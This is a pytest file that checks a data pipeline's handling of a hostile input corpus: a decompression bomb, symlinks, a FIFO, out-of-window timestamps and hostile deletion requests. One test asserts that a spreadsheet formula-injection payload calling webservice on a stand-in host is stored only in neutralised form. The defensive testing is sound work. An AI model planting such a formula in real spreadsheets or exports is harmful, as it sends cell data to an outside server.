"""The hostile corpus end to end: `python -m pipelines run` finishes, refuses clearly, leaks
nothing, and reads nothing from outside the raw folder (issue 12)."""

from __future__ import annotations

import os
import shutil
from datetime import UTC, datetime
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from tests.conftest import run_pipeline_cli
from tests.hostile.corpus import OUTSIDE_MARKER, build_corpus
from tests.hostile.scan import find_text, formula_cells, formula_values

ENV = {
    "PSEUDONYMIZATION_KEY": "hostile-corpus-pseudonymization-key-0123",
    "EXPORT_SIGNING_KEY": "40" * 32,
}


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory: pytest.TempPathFactory) -> dict:
    base = tmp_path_factory.mktemp("hostile")
    corpus = build_corpus(base)
    out = base / "out"
    result = run_pipeline_cli(corpus.raw, out, ENV)
    return {"corpus": corpus, "out": out, "result": result, "base": base}


def _copy_of(hostile_run: dict, tmp_path: Path) -> tuple[Path, Path]:
    """A raw folder and output folder of the hostile run to change (a FIFO cannot be copied,
    so `events/pipe.jsonl` is left out)."""
    raw, out = tmp_path / "raw", tmp_path / "out"
    shutil.copytree(
        hostile_run["corpus"].raw, raw, symlinks=True, ignore=shutil.ignore_patterns("pipe.*")
    )
    shutil.copytree(hostile_run["out"], out, symlinks=True)
    return raw, out


def _quarantine(out: Path) -> pa.Table:
    parts = sorted((out / "quarantine").rglob("*.parquet"))
    return pa.concat_tables(pq.read_table(p) for p in parts)


def test_the_run_finishes_with_exit_0_and_no_traceback(hostile_run: dict) -> None:
    result = hostile_run["result"]
    assert result.returncode == 0, result.stdout + result.stderr
    assert "Traceback" not in result.stdout + result.stderr
    today = datetime.now(UTC).date().isoformat()
    assert f"{today}: 1 line(s) wait for the day to close" in result.stdout


def test_every_hostile_file_and_line_has_its_quarantine_reason(hostile_run: dict) -> None:
    table = _quarantine(hostile_run["out"]).to_pylist()
    reasons_by_file: dict[str, set[str]] = {}
    for entry in table:
        reasons_by_file.setdefault(entry["source_file"], set()).add(entry["reason_code"])
    expected = {
        "events/clock-ahead.jsonl": "out_of_window",
        "events/clock-behind.jsonl": "out_of_window",
        "events/undated.jsonl": "undated_file",
        "events/big-numbers.jsonl": "number_out_of_range",
        "access/big-bytes.log": "number_out_of_range",
        "events/bomb.jsonl.gz": "decompression_limit",
        "events/linked.jsonl": "not_a_regular_file",
        "events/pipe.jsonl": "not_a_regular_file",
        "events/folder.jsonl": "not_a_regular_file",
        "access/elsewhere.log": "not_a_regular_file",
        "events/bad\\xffname.jsonl": "not_a_regular_file",
        "events/plain-but-gz.jsonl.gz": "unreadable_file",
    }
    for file, code in expected.items():
        assert code in reasons_by_file.get(file, set()), (file, reasons_by_file.get(file))
    big = [e for e in table if e["source_file"] == "events/big-numbers.jsonl"]
    assert len(big) == 1, "only the line past 64 bits is quarantined, not its neighbour"


def test_no_identifier_and_no_formula_reaches_any_export_release_or_gold_file(
    hostile_run: dict,
) -> None:
    out = hostile_run["out"]
    needles = (*hostile_run["corpus"].secrets, "CFNetwork")
    for shared in ("exports", "releases", "gold", "warehouse.duckdb"):
        assert (out / shared).exists(), shared
        hits = find_text(out / shared, needles)
        assert not hits, hits
    assert list((out / "exports").rglob("*.csv")), "the run delivered CSV packages"
    assert not formula_cells(out / "exports")
    terms = (out / "exports" / "rx-ad-network" / "2026-10").rglob("top_search_terms.csv")
    assert any("other" in path.read_text() for path in terms), "hostile terms became other"


def test_no_formula_leading_value_is_in_gold_or_the_warehouse(hostile_run: dict) -> None:
    """Formula payloads typed as search terms by hundreds of accounts reach gold (which keeps
    every term) only neutralised, in every gold file and every warehouse table."""
    out = hostile_run["out"]
    terms = [
        t
        for path in (out / "gold" / "search_terms_monthly").rglob("*.parquet")
        for t in pq.read_table(path, columns=["search_term"]).column(0).to_pylist()
    ]
    assert '\'=webservice("http://x.example/"&a1)' in terms, "kept, neutralised"
    assert "'@if(1,2)" in terms
    assert formula_values(out / "gold") == []
    assert formula_values(out / "warehouse.duckdb") == []


def test_hostile_deletion_requests_are_reported_never_guessed_nor_followed(
    hostile_run: dict, tmp_path: Path
) -> None:
    raw, out = _copy_of(hostile_run, tmp_path)

    def quarantined_lines() -> int:  # the copy has no pipe.jsonl (a FIFO cannot be copied)
        files = _quarantine(out).column("source_file").to_pylist()
        return sum(1 for name in files if name != "events/pipe.jsonl")

    quarantined = quarantined_lines()
    bronze = pq.read_table(
        out / "bronze" / "app_events" / "date=2026-10-01" / "part-0.parquet", columns=["user_id"]
    )
    victim = sorted(u for u in set(bronze.column("user_id").to_pylist()) if u)[0]
    (tmp_path / "elsewhere.csv").write_text(victim + "\n")
    requests = raw / "requests"
    requests.mkdir(exist_ok=True)
    (requests / "hostile.csv").write_text("event\nMozilla\n")
    os.symlink(tmp_path / "elsewhere.csv", requests / "linked.csv")
    os.mkfifo(requests / "pipe.csv")

    result = run_pipeline_cli(raw, out, ENV)
    assert result.returncode == 1, result.stdout + result.stderr
    assert "every_request_understood" in result.stdout
    assert "Traceback" not in result.stdout + result.stderr
    assert quarantined_lines() == quarantined, "no quarantined line was erased"
    after = pq.read_table(
        out / "bronze" / "app_events" / "date=2026-10-01" / "part-0.parquet", columns=["user_id"]
    )
    assert victim in set(after.column("user_id").to_pylist()), "a linked request was followed"


def test_nothing_is_read_from_outside_the_raw_folder(hostile_run: dict) -> None:
    hits = find_text(hostile_run["out"], (OUTSIDE_MARKER,))
    assert not hits, hits


def test_a_shrunk_raw_file_holds_its_days_until_the_operator_accepts_the_rotation(
    hostile_run: dict, tmp_path: Path
) -> None:
    raw, out = _copy_of(hostile_run, tmp_path)
    shrunk = raw / "events" / "events-2026-10-03.jsonl"
    lines = shrunk.read_bytes().splitlines(keepends=True)
    shrunk.write_bytes(b"".join(lines[: len(lines) // 2]))
    bronze = out / "bronze" / "app_events" / "date=2026-10-03" / "part-0.parquet"
    rows_before = pq.ParquetFile(bronze).metadata.num_rows

    held = run_pipeline_cli(raw, out, ENV)
    assert held.returncode == 1, held.stdout + held.stderr
    assert "--accept-rotated events/events-2026-10-03.jsonl" in held.stdout
    assert "Traceback" not in held.stdout + held.stderr
    assert pq.ParquetFile(bronze).metadata.num_rows == rows_before

    accepted = run_pipeline_cli(raw, out, ENV, "--accept-rotated", "events/events-2026-10-03.jsonl")
    assert accepted.returncode == 0, accepted.stdout + accepted.stderr
    assert pq.ParquetFile(bronze).metadata.num_rows < rows_before
